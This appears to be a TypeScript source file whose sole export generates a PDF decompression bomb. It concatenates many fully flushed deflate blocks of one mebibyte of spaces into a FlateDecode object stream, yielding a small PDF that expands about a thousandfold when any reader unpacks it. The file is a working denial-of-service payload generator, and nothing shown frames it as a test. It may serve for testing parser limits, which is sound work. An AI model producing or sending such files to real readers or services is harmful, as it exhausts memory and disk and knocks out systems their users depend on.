import { constants, deflateRawSync } from 'node:zlib';

const MIB = 1024 * 1024;

/** A block that can stand in a stream any number of times: it ends at a byte and refers to nothing before it. */
const BLOCK = deflateRawSync(Buffer.alloc(MIB, ' '), { finishFlush: constants.Z_FULL_FLUSH });

const HEAD = Buffer.from([0x78, 0x9c]);
const LAST = Buffer.from([0x03, 0x00]);

/** A PDF of about a thousandth of this size, which no reader can open without unpacking it. */
export function bomb(mebibytes: number): Uint8Array {
  const body = Buffer.concat([HEAD, ...Array.from({ length: mebibytes }, () => BLOCK), LAST]);
  const open = `%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${body.length}>>stream\n`;
  const close = '\nendstream\nendobj\nstartxref\n0\n%%EOF';
  return Buffer.concat([Buffer.from(open, 'latin1'), body, Buffer.from(close, 'latin1')]);
}
